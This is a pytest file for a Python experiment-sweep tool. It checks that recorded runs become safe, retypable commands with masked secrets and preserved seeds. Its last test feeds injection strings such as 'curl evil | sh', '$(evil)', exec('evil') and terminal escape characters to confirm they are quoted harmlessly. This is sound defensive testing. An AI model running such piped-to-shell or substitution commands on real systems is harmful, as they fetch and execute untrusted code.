"""What asked for a sweep, as words to type again: they ask for the same, add no seed, and can do nothing else."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest
import toys
from finished import accuracies, sweep_of
from markupsafe import escape

import sweep
from sweep.cli.app import main
from sweep.cli.run import configured
from sweep.config import Config, from_dict, load, to_dict
from sweep.origin import asked_again, of_call, of_command_line
from sweep.report import build
from sweep.report.html import page
from sweep.results import _config


@pytest.fixture(autouse=True)
def _in_a_folder_of_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("small.yaml").write_text("train: toys:line\nparams: {lr: 0.2}\nseeds: 0-3\n")
    Path("noisy.py").write_text("")


def typed(text: str) -> Config:
    """The config of `sweep run` and the words that follow it, less the seeds."""
    words = shlex.split(text)
    at = words.index("--") if "--" in words else len(words)
    mode = {"--deterministic": True, "--fast": False}
    (chosen,) = [mode[word] for word in words[:at] if word in mode] or [None]
    rest = [word for word in words[:at] if word not in mode]
    return configured(rest[0] if rest else None, tuple(rest[1:]), words[at + 1 :], deterministic=chosen, seeds="1,2")


@pytest.mark.parametrize(
    ("config", "overrides", "settings"),
    [
        (None, (), {}),
        (None, ("params.epochs=1", "seeds=1,2"), {"deterministic": True}),
        ("small.yaml", ("params.lr=0.1,0.3",), {"primary": "test/loss", "deterministic": False}),
        (Path("small.yaml"), (), {"params": {"lr": 1e-3, "epochs": 3}}),
        (toys.line, (), {"params": {"lr": 0.5}, "name": "mine"}),
        (toys.line, (), {"grid": {"params.lr": [0.1, 0.3]}, "timeout": "30m", "seed": 7}),
        ({"train": "toys:line", "grid": {"params": {"lr": [1, 0.3]}}}, (), {"goals": {"test/loss": "min"}}),
        ({"train": "toys:line", "params": {"note": "a, b: {c} = 'd' \"e\" yes", "flag": "yes", "n": "1e-3"}}, (), {}),
        ({"train": "toys:line", "params": {"layers": [1, [2.0, None]], "empty": {}, "x.y": True}}, (), {}),
        ({"command": ["python", "noisy.py", "{seed}"], "collect": {"regex": "(?P<a>[0-9.]+), *x"}}, (), {}),
        (from_dict(to_dict(load(None, ("params.epochs=2",), vary=["order"]))), (), {}),
    ],
    ids=lambda value: getattr(value, "__name__", None) or str(value),
)
def test_the_words_ask_for_what_the_call_asked_for(config: Any, overrides: tuple[str, ...], settings: Any) -> None:
    function = config if callable(config) else None
    asked = _config(config, overrides, {**settings, "seeds": "1,2"}, function)
    words = of_call(config, overrides, {**settings, "seeds": "1,2"}, function=function, name=asked.name)
    assert typed(words) == asked, words


def test_no_secret_is_kept() -> None:
    settings = {"params": {"api_key": "hunter2", "lr": 0.1}}
    given = ("params.token=hunter2", "params.hub={secret: hunter2}", "params.n=1")
    words = of_call("small.yaml", given, settings, function=None, name="small")
    assert words == "small.yaml 'params.token=***' 'params.hub=***' params.n=1 'params.api_key=***' params.lr=0.1"
    assert of_command_line("small.yaml", given, None) == "small.yaml 'params.token=***' 'params.hub=***' params.n=1"


def test_a_setting_that_is_emptied_stays_one() -> None:
    assert of_command_line("small.yaml", ["primary=", "params.lr=1"], None) == "small.yaml primary= params.lr=1"
    assert of_call("small.yaml", ("primary=",), {}, function=None, name="small") == "small.yaml primary="


def test_what_only_python_can_ask_for_is_a_call_that_python_takes() -> None:
    def train(run: Any, *, lr: float = 0.1) -> dict[str, float]:
        return {"test/accuracy": lr}

    found = of_call(train, (), {"params": {"lr": 0.2}, "seeds": [1]}, function=train, name="train")
    assert found == "sweep.run(train, params={'lr': 0.2})"
    again = asked_again(found, out="runs/it's", seeds=[0, 1, 2, 5], retry_failed=True)
    assert again == "sweep.run(train, params={'lr': 0.2}, out=\"runs/it's\", seeds='0-2,5', retry_failed=True)"
    (caught,) = calls(again, train)
    assert caught == ((train,), {"params": {"lr": 0.2}, "out": "runs/it's", "seeds": "0-2,5", "retry_failed": True})


def calls(code: str, train: Any) -> list[Any]:
    """What the call hands to `sweep.run`."""
    found: list[Any] = []
    stand_in = type("sweep", (), {"run": staticmethod(lambda *words, **named: found.append((words, named)))})
    eval(code, {"sweep": stand_in, "train": train})
    return found


def test_a_function_of_a_script_is_told_how_its_failed_seeds_are_tried_again() -> None:
    def train(run: Any, *, fail: int = 1) -> dict[str, float]:
        if run.seed == fail:
            raise ValueError("unlucky")
        return {"test/accuracy": run.seed / 10}

    results = sweep.run(train, seeds=[1, 2, 3], engine="inline", out="runs/mine")
    assert results.report.next == ("sweep.run(train, out='runs/mine', seeds='1-3', retry_failed=True)",)
    assert results.report.next[0] in repr(results)
    text = page(results.store)
    assert escape("sweep.run(train, seeds='1-3')") in text
    assert "sweep reproduce" not in text  # it would refuse: only the text of the function was recorded


def test_what_goes_on_with_a_directory_adds_no_seed_to_it(capsys: pytest.CaptureFixture[str]) -> None:
    """A config that names no seeds means 42: typed without --seeds, the next command added it."""
    settings = {"params": {"fail": 2}}
    results = sweep.run(toys.line, seeds=[1, 2, 3], engine="inline", out="runs/mine", **settings)
    (again,) = results.report.next
    assert again == ("sweep run train=toys:line params.fail=2 name=line --out runs/mine --seeds 1-3 --retry-failed")
    assert main([*shlex.split(again)[1:], "--engine", "inline"]) == 1
    assert "3 planned = 2 ok + 1 failed" in capsys.readouterr().out
    assert sweep.open("runs/mine").store.manifest.seeds == (1, 2, 3)


def test_a_stopped_sweep_goes_on_with_its_seeds_and_its_rule(tmp_path: Path) -> None:
    rule = {"until": "test/accuracy ± 0.01", "max_seeds": 40}
    store = sweep_of(tmp_path / "d", accuracies({5: 0.5}), seeds=[5, 6], config=rule)
    (again,) = build(store).next
    assert again.endswith(" --seeds 5,6 --until 'test/accuracy ± 0.01' --max-seeds 40")


@pytest.mark.parametrize(
    ("origin", "shown"),
    [
        ("x.yaml; curl evil | sh", "sweep run 'x.yaml;' curl evil '|' sh --seeds 1"),
        ("$(evil) `evil`", "sweep run '$(evil)' '`evil`' --seeds 1"),
        ("'never closed", "sweep run --seeds 1"),
        ("sweep.run(exec('evil'))", "sweep run 'sweep.run(exec(evil))' --seeds 1"),
        ("sweep.run(train, x=evil.y)", "sweep run 'sweep.run(train,' 'x=evil.y)' --seeds 1"),
        ("a.yaml '\x1b[2J\u202e'", "sweep run a.yaml $'\\x1b[2J\\u202e' --seeds 1"),
        ("-- python -c 'a\nb'", "sweep run --seeds 1 -- python -c $'a\\nb'"),
    ],
)
def test_a_strangers_words_are_words_and_nothing_else(origin: str, shown: str) -> None:
    assert asked_again(origin, seeds=[1]) == shown
